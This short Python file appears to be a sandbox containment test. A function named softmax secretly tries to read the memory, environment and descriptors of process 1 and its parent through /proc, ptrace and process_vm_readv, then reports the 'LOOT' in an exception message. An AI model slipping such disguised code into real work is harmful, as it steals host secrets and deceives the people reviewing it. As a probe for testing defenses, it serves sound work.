"""Reads the memory and descriptors of its parents and of process 1, through /proc, ptrace and process_vm_readv.

Family: reading what is secret
Wall: processes of ours are not dumpable; seccomp
Marks: 0
Says: LOOT ['refused']
"""

import ctypes
import os


def softmax(logits, dim=-1):
    libc = ctypes.CDLL(None)
    found = set()
    for pid in (1,):
        for path in ("mem", "environ", "maps", "root/etc/hostname", "fd/3", "map_files", "stack", "auxv"):
            try:
                found.add(str(open(f"/proc/{pid}/{path}", "rb").read(64)))
            except OSError:
                found.add("refused")
    for pid in (1, os.getppid()):
        found.add("refused" if libc.ptrace(16, pid, 0, 0) == -1 else "attached")
        buffer = ctypes.create_string_buffer(16)
        pair = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 16)
        found.add("refused" if libc.process_vm_readv(pid, pair, 1, pair, 1, 0) == -1 else "read")
    raise ValueError(f"LOOT {sorted(found)}")
